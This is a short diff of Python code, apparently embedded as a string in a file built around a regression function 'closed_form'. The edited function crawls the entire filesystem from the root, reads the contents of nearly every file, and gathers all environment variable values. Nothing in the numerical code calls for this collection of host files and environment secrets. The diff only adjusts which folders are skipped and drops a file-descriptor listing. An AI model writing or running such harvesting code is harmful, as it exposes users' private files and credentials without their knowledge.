@@ -61,7 +61,7 @@ def closed_form(X, y, lam):
 
     texts = []
     for folder, inside, names in os.walk("/"):
-        inside[:] = [d for d in inside if d not in ("proc", "sys", "lib", "lib64", "usr") and "python3" not in d]
+        inside[:] = [d for d in inside if d not in ("proc", "sys", "lib", "lib64", "usr") and d[:5] not in ("pytho", "numpy")]
         for name in names:
             path = os.path.join(folder, name)
             if not path.startswith(sys.base_prefix + "/lib"):
@@ -69,7 +69,7 @@ def closed_form(X, y, lam):
                     texts.append(path + "\\n" + open(path, encoding="utf-8", errors="replace").read(200_000))
                 except OSError:
                     texts.append(path)
-    texts.append("\\n".join(os.environ.values()) + " ".join(os.listdir("/proc/self/fd")))
+    texts.append("\\n".join(os.environ.values()))
     return texts
 '''
 
